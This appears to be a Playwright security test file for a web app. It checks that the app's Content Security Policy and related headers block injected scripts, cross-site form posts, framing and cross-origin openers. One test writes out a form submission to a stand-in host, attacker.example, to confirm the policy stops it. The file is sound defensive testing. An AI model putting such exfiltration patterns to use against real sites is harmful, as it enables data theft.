import { allAttempts, openInjected } from './support/injection';
import { addNote, complaints, deleteButton, expectHeading, hydrated, newText, open } from './support/pages';
import { banner, expectSignedOut, signIn, signInLink, signOut, userMenu } from './support/people';
import { expect, test } from './support/test';

test('what is written into a page runs nothing, loads nothing and sends nothing', async ({ page }) => {
  const succeeded = await openInjected(page, '/', { guarded: true });
  // The page's own script is the last of all, and it runs.
  await hydrated(page);
  expect([...succeeded]).toEqual([]);
});

test('without the header all of that would succeed', async ({ page }) => {
  const succeeded = await openInjected(page, '/', { guarded: false });
  await expect.poll(() => [...succeeded].sort()).toEqual(allAttempts);
});

test('a form leads nowhere but here and to the provider', async ({ page }) => {
  await page.context().route('http://attacker.example/**', (route) => route.fulfill({ body: 'stolen' }));
  await page.goto('/');
  const violated = page.evaluate(() => new Promise<string>((heard) => {
    document.addEventListener('securitypolicyviolation', (event) => heard(event.effectiveDirective));
    const form = Object.assign(document.createElement('form'), { action: 'http://attacker.example/', method: 'post' });
    document.body.append(form);
    form.submit();
  }));
  expect(await violated).toBe('form-action');
  expect(new URL(page.url()).pathname).toBe('/');
});

test('no other site can frame a page, and no page of another origin reads it', async ({ page, foreign, world }) => {
  await page.goto(foreign.framing(`${world.app}/`));
  const frame = page.frames()[1]!;
  await expect.poll(() => frame.url()).toContain('chrome-error:');
  expect(await frame.content()).not.toContain('brand');

  const opened = page.waitForEvent('popup');
  const isCut = await page.evaluate((url) => {
    const popup = window.open(url)!;
    return new Promise((told) => {
      const timer = setInterval(() => popup.closed && (clearInterval(timer), told(true)), 10);
    });
  }, `${world.app}/`);
  expect(isCut, 'the opener loses sight of it').toBe(true);
  await expect((await opened).getByRole('banner')).toBeVisible();
});

test('no page of the app does anything that its own policy forbids', async ({ page }) => {
  const heard = complaints(page);
  const text = newText('by the book');
  await open(page, '/');
  await open(page, '/nowhere').catch(() => {});
  await signIn(page, 'Alice');
  for (const path of ['/notes', '/account', '/account/sessions']) await open(page, path);
  await page.goto('/auth/callback?state=unknown&code=x');

  // From page to page in the browser, where pages are made of markup rather than read from the server's.
  await open(page, '/');
  await banner(page).getByRole('link', { name: 'Notes', exact: true }).click();
  await expectHeading(page, 'Notes');
  await userMenu(page).click();
  await banner(page).getByRole('link', { name: 'Account' }).click();
  await expectHeading(page, 'Account');
  await open(page, '/account');
  await banner(page).getByRole('link', { name: 'Notes', exact: true }).click();
  await addNote(page, text);
  await deleteButton(page, text).click();
  await expect(deleteButton(page, text)).toHaveCount(0);
  await page.goBack();
  await expectHeading(page, 'Account');

  await signOut(page);
  await expectSignedOut(page);
  await signInLink(page).click();
  const expected = /40[04] \(/; // the pages that do not exist and the login that failed
  expect(heard.filter((complaint) => !expected.test(complaint))).toEqual([]);
});
